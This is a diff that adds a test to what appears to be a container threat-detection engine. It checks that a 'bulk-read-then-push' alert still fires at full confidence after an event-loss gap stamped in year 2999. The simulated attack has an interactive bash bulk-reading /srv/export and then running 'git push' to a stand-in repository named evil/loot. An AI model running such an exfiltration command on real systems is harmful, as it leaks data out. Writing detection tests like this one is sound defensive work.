@@ -57,3 +57,24 @@ describe('a loss before the container was first seen', () => {
     expect(run(s.events).alerts.map((a) => [a.rule, a.degraded])).toEqual([['bulk-read-then-push', false]]);
   });
 });
+
+describe('a loss stamped far in the future', () => {
+  it('marks the pushes of its time, not every push on the node until year 2999', () => {
+    const s = new Scenario();
+    const c = s.container({ pod: 'api' });
+    const app = s.init(c, '/app/server', '--listen :8080');
+    s.read(app, '/app/config.yaml', 100);
+    // Events dropped from a full queue, one of them stamped 2999: the marker spans its drops' times.
+    s.wait(1_000).gap({ fromMs: s.now, dropped: 10, at: Date.parse('2999-12-31T23:59:59Z') });
+    // An hour later, long past the loss, a push of the node's own time.
+    s.wait(3_600_000);
+    const bash = s.exec(c, '/bin/bash', '-i', { parent: app });
+    s.readMany(bash, '/srv/export', 80, MiB, 10);
+    s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: bash });
+    const alerts = run(s.events).alerts;
+    expect(brief(alerts)).toEqual([
+      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+    ]);
+    expect(alerts[0]!.degraded).toBe(false);
+  });
+});
